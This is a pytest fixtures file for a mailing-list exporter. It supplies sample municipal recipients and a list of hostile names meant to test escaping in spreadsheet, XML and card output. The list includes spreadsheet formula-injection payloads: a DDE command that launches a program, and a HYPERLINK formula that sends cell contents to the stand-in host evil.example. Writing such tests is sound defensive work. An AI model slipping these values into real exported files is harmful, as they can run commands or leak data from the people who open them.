"""The few recipients that the tests of mailing lists talk about."""

from datetime import date

import pytest

from charter_cli.exporters import Options
from charter_cli.model import Address, Authority, Contact, Kind, Recipient

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    " =1+1",
    "+49-30-1234",
    "<r><t>x</t></r>",
    "<r></sheetData></r>",
    "_x0041_",
    "Biel/Bienne",
    'Roma & Co "; #1 $ @ *',
    "https://oslo.example/",
    "internal:Recipients!A1",
    "Tab\there, break\nthere",
    "Århus; Aarhus\\Aros",
    "Å" * 2000,
    "-",
    "'",
)
"""Names that a spreadsheet, a reader of XML or a reader of cards could take for its own."""


@pytest.fixture
def options() -> Options:
    return Options(
        on=date(2018, 2, 26), title="Bilbao 2018", countries={"NO": "Norway", "CH": "Switzerland"}
    )


@pytest.fixture
def oslo() -> Recipient:
    """Return a recipient with every field filled, a contact among them."""
    office = Authority(
        id=7,
        name="Oslo kommune",
        country="NO",
        kind=Kind.MUNICIPALITY,
        region="Oslo",
        code="0301",
        languages=("nb", "en"),
        address=Address("Rådhusplassen 1", "Postboks 73 Sentrum", "0037", "Oslo"),
        email="postmottak@oslo.example",
        phone="+47 21 80 21 80",
        website="https://www.oslo.example/a,b;c",
    )
    contact = Contact(
        id=3, authority=7, name="Åse Øye", role="Ordfører", email="aase@oslo.example", language="nn"
    )
    return Recipient(office, contact, "signatory", "2008-06", "2006")


@pytest.fixture
def bern() -> Recipient:
    """Return a recipient of which little is known."""
    return Recipient(Authority(id=8, name="Bern", country="CH"), standing="possible")


@pytest.fixture
def hostile() -> tuple[Recipient, ...]:
    """Return one recipient for each hostile name, with zeros and a telephone beside it."""
    return tuple(
        Recipient(
            Authority(
                id=number,
                name=name,
                country="NO",
                code="0301",
                address=Address(postcode="00150"),
                phone="+47 22 86 44 00",
            )
        )
        for number, name in enumerate(HOSTILE, 1)
    )
